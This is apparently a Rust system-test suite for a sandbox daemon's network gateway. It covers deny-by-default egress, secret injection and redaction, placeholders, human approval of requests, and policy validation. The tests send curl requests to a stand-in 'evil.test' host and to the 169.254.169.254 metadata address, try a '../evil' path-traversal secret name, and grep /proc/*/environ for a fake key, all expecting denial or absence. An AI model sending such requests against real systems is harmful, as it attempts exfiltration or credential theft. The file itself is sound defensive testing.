//! What leaves a sandbox: by which rule, with which secret, and what the journal says of it.

use std::io::Write as _;
use std::process::{Command, Stdio};

use serde_json::Value;
use system_tests::origin::Origin;
use system_tests::{Client, Res, World, process, trouble};

use crate::support::{SOON, until};

/// What no sandbox may ever hold.
const REAL: &str = "sk-real-0c8e4f1b7a2d9e6f";

/// Starts the daemon where these names are known; they lead to loopback, where the origins are.
pub(crate) fn daemon(world: &World) -> Res<Client> {
    let hosts = world.root().join("hosts");
    std::fs::write(
        &hosts,
        "127.0.0.1 localhost allowed.test other.test evil.test registry.test\n",
    )?;
    let serve = world.command(["serve"]);
    let mut command = Command::new("unshare");
    command
        .args(["--mount", "--propagation", "slave", "--", "sh", "-c"])
        .arg("mount --bind \"$0\" /etc/hosts && exec \"$@\"")
        .arg(&hosts)
        .arg(serve.get_program())
        .args(serve.get_args())
        .env_clear()
        .envs(serve.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .stdin(Stdio::null());
    let daemon = Client::start(command)?;
    until("the daemon serves", || {
        system_tests::api::Api::unix(&world.data().join("api.sock")).is_ok()
    })?;
    Ok(daemon)
}

/// What a client said, for a test that failed.
pub(crate) fn said(done: &system_tests::Done) -> String {
    format!("{:?}\n{}\n{}", done.code, done.out(), done.err())
}

/// A rule for an origin of ours.
pub(crate) fn rule(name: &str, action: &str, host: &str, origin: &Origin, more: &str) -> String {
    let roots = if origin.root.is_empty() {
        "plain = true".to_owned()
    } else {
        format!("roots = '''\n{}'''", origin.root)
    };
    format!(
        "[[rule]]\nname = \"{name}\"\naction = \"{action}\"\nhosts = [\"{host}\"]\nports = [{}]\naddresses = [\"127.0.0.1\"]\n{roots}\n{more}\n\n",
        origin.port
    )
}

pub(crate) fn put_policy(world: &World, text: &str) -> Res<()> {
    let file = world.root().join("policy.toml");
    std::fs::write(&file, text)?;
    world.must(&["policy", "set", "a", &file.to_string_lossy()])?;
    Ok(())
}

pub(crate) fn put_secret(world: &World, name: &str, value: &str) -> Res<()> {
    let mut command = world.command(["secret", "set", name]);
    command.stdin(Stdio::piped()).stdout(Stdio::null());
    let mut child = command.spawn()?;
    let mut stdin = child.stdin.take().ok_or_else(|| trouble("no stdin"))?;
    writeln!(stdin, "{value}")?;
    drop(stdin);
    if child.wait()?.success() {
        Ok(())
    } else {
        Err(trouble("the secret was not set"))
    }
}

/// Runs curl inside, and returns what it printed.
pub(crate) fn curl(world: &World, op: &str, args: &[&str]) -> Res<system_tests::Done> {
    let mut all = vec![
        "exec",
        "a",
        "--op",
        op,
        "--",
        "curl",
        "-sS",
        "--max-time",
        "20",
    ];
    all.extend(args);
    world.run(&all)
}

pub(crate) fn lines(world: &World, args: &[&str]) -> Res<Vec<Value>> {
    let out = world.must(args)?.out();
    out.lines()
        .map(|line| serde_json::from_str(line).map_err(|e| trouble(e.to_string())))
        .collect()
}

#[test]
fn without_a_policy_nothing_leaves_and_it_is_told_why() -> Res<()> {
    if !crate::is_root("without_a_policy_nothing_leaves_and_it_is_told_why") {
        return Ok(());
    }
    let world = World::new("closed")?;
    let daemon = daemon(&world)?;
    world.create("a", &[])?;
    let done = curl(&world, "http", &["-i", "http://evil.test/x?data=1"])?;
    assert!(done.out().starts_with("HTTP/1.1 403"), "{}", said(&done));
    assert!(done.out().contains("egress_denied"), "{}", said(&done));
    assert!(
        done.out()
            .to_lowercase()
            .contains("x-durable-deny: no_rule"),
        "{}",
        said(&done)
    );
    let done = curl(&world, "https", &["-i", "https://evil.test/x"])?;
    assert!(done.out().contains("egress_denied"), "{}", said(&done));
    let done = curl(&world, "address", &["-i", "http://169.254.169.254/latest"])?;
    assert!(done.out().contains("egress_denied"), "{}", said(&done));
    let denials = lines(&world, &["policy", "log", "a", "--json"])?;
    for (op, host) in [
        ("http", "evil.test"),
        ("https", "evil.test"),
        ("address", "169.254.169.254"),
    ] {
        assert!(
            denials
                .iter()
                .any(|denial| denial["op"] == op && denial["host"] == host),
            "{op}: {denials:?}"
        );
    }
    assert!(lines(&world, &["effects", "a", "--json"])?.is_empty());
    world.end_clean()?;
    drop(daemon);
    Ok(())
}

#[test]
fn what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does() -> Res<()> {
    if !crate::is_root("what_a_rule_allows_leaves_with_its_secret_and_nothing_else_does") {
        return Ok(());
    }
    let world = World::new("egress")?;
    let origin = Origin::https(&["allowed.test"])?;
    let other = Origin::https(&["other.test"])?;
    let daemon = daemon(&world)?;
    world.create("a", &[])?;
    put_secret(&world, "token", REAL)?;
    let policy = rule(
        "api",
        "allow",
        "allowed.test",
        &origin,
        "methods = [\"GET\", \"POST\"]\npaths = [\"/reflect\", \"/take/**\"]\ninject = [{ secret = \"api\", bearer = true }]",
    ) + "[[secret]]\nname = \"api\"\nfrom = \"age:token\"\n";
    put_policy(&world, &policy)?;

    let base = format!("https://allowed.test:{}", origin.port);
    let done = curl(&world, "read", &[&format!("{base}/reflect")])?;
    assert_eq!(done.code, Some(0), "{}", said(&done));
    // The origin sent it back, and the gateway took it out.
    assert!(done.out().contains("authorization: "), "{}", said(&done));
    assert!(!done.out().contains(REAL), "{}", said(&done));
    let seen = origin.seen();
    assert_eq!(seen.len(), 1);
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {REAL}").as_str())
    );

    let done = curl(&world, "write", &["-d", "x=1", &format!("{base}/take/it")])?;
    assert_eq!(done.out(), "ok /take/it\n", "{}", said(&done));
    assert_eq!(origin.seen()[1].body, b"x=1");

    for (op, url) in [
        ("path", format!("{base}/other")),
        ("host", format!("https://other.test:{}/", other.port)),
    ] {
        let done = curl(&world, op, &["-k", &url])?;
        assert!(!done.out().starts_with("ok"), "{}", said(&done));
    }
    let done = curl(
        &world,
        "method",
        &["-X", "DELETE", &format!("{base}/take/it")],
    )?;
    assert!(done.out().contains("egress_denied"), "{}", said(&done));
    assert_eq!(origin.seen().len(), 2);
    assert!(other.seen().is_empty());

    let effects = lines(&world, &["effects", "a", "--json"])?;
    assert_eq!(effects.len(), 2, "{effects:?}");
    assert_eq!(
        (
            &effects[0]["op"],
            &effects[0]["class"],
            &effects[0]["status"]
        ),
        (&"read".into(), &"read".into(), &200.into())
    );
    assert_eq!(
        (&effects[1]["op"], &effects[1]["class"], &effects[1]["rule"]),
        (&"write".into(), &"write".into(), &"api".into())
    );
    assert_eq!(effects[1]["sent"]["bytes"], 3);
    assert_eq!(effects[1]["secrets"][0]["name"], "api");
    assert_eq!(
        lines(&world, &["effects", "a", "--op", "write", "--json"])?.len(),
        1
    );

    // A value is in no place that anybody can read: not inside, and not in what is kept of it.
    let inside = world.sh(
        "a",
        // In two parts, for the command itself is journaled.
        &format!(
            "p={}; p=${{p}}{}; env | grep -c \"$p\"; grep -rsl \"$p\" /workspace /root /tmp /run /etc | wc -l; cat /proc/*/environ | grep -ac \"$p\"",
            &REAL[8..12],
            &REAL[12..]
        ),
    )?;
    assert_eq!(inside.out(), "0\n0\n0\n", "{}", said(&inside));
    let journal = world.must(&["log", "a", "--json"])?.out();
    assert!(!journal.contains(&REAL[8..]));
    for entry in ["daemon.log", "authority", "store", "journal", "sandboxes"] {
        let found = Command::new("grep")
            .args(["-rsl", &REAL[8..]])
            .arg(world.data().join(entry))
            .output()?;
        assert_eq!(found.stdout, b"", "{entry}");
    }

    // Rotated, it is another one at once.
    put_secret(&world, "token", "sk-second-5d1f")?;
    curl(&world, "rotated", &[&format!("{base}/reflect")])?;
    let last = origin.seen().pop().ok_or_else(|| trouble("nothing came"))?;
    assert_eq!(last.header("authorization"), Some("Bearer sk-second-5d1f"));

    // Taken away, nothing leaves with it, and nothing leaves without it either.
    world.must(&["secret", "rm", "token"])?;
    let done = curl(&world, "gone", &[&format!("{base}/reflect")])?;
    assert!(done.out().contains("egress_denied"), "{}", said(&done));
    assert_eq!(origin.seen().len(), 3);

    put_policy(&world, "")?;
    let done = curl(&world, "closed", &["-k", &format!("{base}/reflect")])?;
    assert!(!done.out().contains("authorization"), "{}", said(&done));
    assert_eq!(origin.seen().len(), 3);
    world.end_clean()?;
    drop(daemon);
    Ok(())
}

#[test]
fn a_placeholder_in_a_file_is_good_in_forks_too_and_short_or_coded_secrets_are_refused() -> Res<()>
{
    if !crate::is_root(
        "a_placeholder_in_a_file_is_good_in_forks_too_and_short_or_coded_secrets_are_refused",
    ) {
        return Ok(());
    }
    let world = World::new("shown")?;
    let origin = Origin::https(&["allowed.test"])?;
    let daemon = daemon(&world)?;
    world.create("a", &[])?;
    put_secret(&world, "token", REAL)?;
    let policy = rule(
        "api",
        "allow",
        "allowed.test",
        &origin,
        "inject = [{ secret = \"api\", placeholder = [\"header:x-api-key\"] }]",
    ) + "[[secret]]\nname = \"api\"\nfrom = \"age:token\"\nplaceholder = { env = \"API_KEY\" }\n";
    put_policy(&world, &policy)?;
    let shown = world.sh("a", "echo $API_KEY | tee key")?.out();
    assert!(
        shown.starts_with("sk-") && shown.len() == REAL.len() + 1 && shown.trim() != REAL,
        "{shown:?}"
    );
    world.must(&["fork", "a", "--name", "b"])?;
    let base = format!("https://allowed.test:{}", origin.port);
    let script = format!("curl -sS --max-time 20 -H \"x-api-key: $(cat key)\" {base}/take");
    for name in ["a", "b"] {
        let done = world.sh(name, &script)?;
        assert_eq!(done.out(), "ok /take\n", "{name}: {}", said(&done));
        let last = origin.seen().pop().ok_or_else(|| trouble("nothing came"))?;
        assert_eq!(last.header("x-api-key"), Some(REAL), "{name}");
    }
    // Anywhere else it is refused.
    let script = format!("curl -sS --max-time 20 \"{base}/take?key=$API_KEY\"");
    let done = world.sh("b", &script)?;
    assert!(done.out().contains("placeholder"), "{}", said(&done));
    assert_eq!(origin.seen().len(), 2);
    // An answer that nobody can look through is no answer.
    let script = format!("curl -sS --max-time 20 -H \"x-api-key: $API_KEY\" {base}/coded");
    let done = world.sh("a", &script)?;
    assert!(done.out().contains("coding"), "{}", said(&done));

    assert!(put_secret(&world, "short", "abc").is_err());
    assert!(put_secret(&world, "../evil", "abcdefghij").is_err());
    world.end_clean()?;
    drop(daemon);
    Ok(())
}

#[test]
fn a_daemon_that_is_killed_leaves_the_doors_and_the_next_one_serves_them() -> Res<()> {
    if !crate::is_root("a_daemon_that_is_killed_leaves_the_doors_and_the_next_one_serves_them") {
        return Ok(());
    }
    let world = World::new("doors")?;
    let origin = Origin::http()?;
    let first = daemon(&world)?;
    world.create("a", &[])?;
    put_policy(&world, &rule("plain", "allow", "allowed.test", &origin, ""))?;
    let gate = world.effects().gate("doors")?;
    let script = format!(
        "read -r go < {}; curl -sS --max-time 60 http://allowed.test:{}/after",
        gate.inside(),
        origin.port
    );
    let client = world.start(&["exec", "a", "--op", "late", "--", "bash", "-c", &script])?;
    let pid = world.daemon().ok_or_else(|| trouble("no daemon lives"))?;
    until("the operation runs", || {
        !world.processes_of("late").is_empty()
    })?;
    // The client goes first: it would start a daemon that does not know the name.
    drop(client);
    process::kill(pid);
    until("the daemon is gone", || !process::is_alive(pid))?;
    drop(first);
    // It connects while nobody serves, and waits.
    gate.open()?;
    let second = daemon(&world)?;
    let view = world.json(&["op", "a", "late", "--wait", "--json"])?;
    assert_eq!(view["exit_code"], 0, "{view}");
    assert_eq!(world.must(&["read", "a", "late"])?.out(), "ok /after\n");
    assert_eq!(origin.seen().len(), 1);
    world.end_clean()?;
    drop(second);
    Ok(())
}

#[test]
fn a_request_waits_for_a_person_and_leaves_once() -> Res<()> {
    if !crate::is_root("a_request_waits_for_a_person_and_leaves_once") {
        return Ok(());
    }
    let world = World::new("ask")?;
    let origin = Origin::https(&["allowed.test"])?;
    let first = daemon(&world)?;
    world.create("a", &[])?;
    let policy = rule(
        "releases",
        "ask",
        "allowed.test",
        &origin,
        "paths = [\"/release/**\"]\ntimeout = \"60s\"",
    );
    put_policy(&world, &policy)?;
    let url = format!("https://allowed.test:{}/release/1", origin.port);
    let ask = |op: &str| {
        world.start(&[
            "exec",
            "a",
            "--op",
            op,
            "--",
            "curl",
            "-sS",
            "--max-time",
            "90",
            "-d",
            "v=1",
            &url,
        ])
    };
    let waiting = || lines(&world, &["approvals", "a", "--json"]);
    let client = ask("one")?;
    until("it waits", || waiting().is_ok_and(|list| list.len() == 1))?;
    assert!(origin.seen().is_empty());
    let id = waiting()?[0]["id"].as_str().unwrap_or_default().to_owned();

    // The daemon is killed meanwhile: the word that is given later is found by the same request.
    // The client goes first: it would start a daemon that does not know the names.
    drop(client);
    let pid = world.daemon().ok_or_else(|| trouble("no daemon lives"))?;
    process::kill(pid);
    until("the daemon is gone", || !process::is_alive(pid))?;
    drop(first);
    let second = daemon(&world)?;
    world.json(&["op", "a", "one", "--wait", "--json"])?;
    assert!(origin.seen().is_empty());
    assert_eq!(waiting()?[0]["id"], id.as_str());
    world.must(&["approve", "a", &id])?;
    let done = ask("two")?.finish()?;
    assert_eq!(done.out(), "ok /release/1\n", "{}", said(&done));
    assert_eq!(origin.seen().len(), 1);
    assert!(waiting()?.is_empty());

    // The word was good for one; the next is asked again, and refused.
    let client = ask("three")?;
    until("it waits", || waiting().is_ok_and(|list| list.len() == 1))?;
    let id = waiting()?[0]["id"].as_str().unwrap_or_default().to_owned();
    world.must(&["refuse", "a", &id])?;
    let done = client.finish()?;
    assert!(done.out().contains("egress_denied"), "{}", said(&done));

    // Remembered, it is a rule.
    let client = ask("four")?;
    until("it waits", || waiting().is_ok_and(|list| list.len() == 1))?;
    let id = waiting()?[0]["id"].as_str().unwrap_or_default().to_owned();
    world.must(&["approve", "a", &id, "--remember"])?;
    assert_eq!(client.finish()?.out(), "ok /release/1\n");
    assert_eq!(ask("five")?.finish()?.out(), "ok /release/1\n");
    assert!(origin.wait(3, SOON));
    assert_eq!(origin.seen().len(), 3);
    world.end_clean()?;
    drop(second);
    Ok(())
}

#[test]
fn a_policy_that_is_none_changes_nothing() -> Res<()> {
    let world = World::new("nopolicy")?;
    world.create("a", &[])?;
    put_policy(
        &world,
        "[[rule]]\nname = \"x\"\naction = \"allow\"\nhosts = [\"allowed.test\"]\n",
    )?;
    let before = world.must(&["policy", "show", "a"])?.out();
    for bad in [
        "[[rule]]\nname = \"x\"\naction = \"allow\"\nhosts = [\"*\"]\n",
        "[[rule]]\nname = \"x\"\naction = \"allow\"\nhost = [\"a.test\"]\n",
        "nonsense",
        "[[rule]]\nname = \"x\"\nhosts = [\"a.test\"]\naction = \"maybe\"\n",
    ] {
        let file = world.root().join("bad.toml");
        std::fs::write(&file, bad)?;
        let done = world.run(&["policy", "set", "a", &file.to_string_lossy()])?;
        assert_eq!(done.code, Some(125), "{bad:?} was taken");
        assert_eq!(done.err().trim().lines().count(), 1, "{}", done.err());
    }
    assert_eq!(world.must(&["policy", "show", "a"])?.out(), before);
    let check = |url: &str, code| -> Res<String> {
        let done = world.run(&["policy", "check", url, "--of", "a"])?;
        assert_eq!(done.code, Some(code), "{}", said(&done));
        Ok(done.out())
    };
    assert!(check("https://allowed.test/", 0)?.contains('x'));
    check("https://evil.test/", 1)?;
    world.end_clean()
}

#[test]
fn the_daemon_may_open_many_files_and_programs_inside_as_many_as_it_was_given() -> Res<()> {
    let world = World::new("nofile")?;
    let serve = world.command(["serve"]);
    let mut command = Command::new("sh");
    command
        .args(["-c", "ulimit -Sn 512 && exec \"$0\" serve"])
        .arg(serve.get_program())
        .env_clear()
        .envs(serve.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .stdin(Stdio::null());
    let daemon = Client::start(command)?;
    until("the daemon serves", || {
        system_tests::api::Api::unix(&world.data().join("api.sock")).is_ok()
    })?;
    world.create("a", &[])?;
    assert_eq!(world.sh("a", "ulimit -Sn")?.out(), "512\n");
    let limits = process::file(daemon.pid(), "limits");
    let limits = String::from_utf8_lossy(&limits);
    let files = limits
        .lines()
        .find(|line| line.starts_with("Max open files"));
    let numbers: Vec<&str> = files.unwrap_or_default().split_whitespace().collect();
    assert_eq!(numbers.get(3), numbers.get(4), "{files:?}");
    world.end_clean()?;
    drop(daemon);
    Ok(())
}
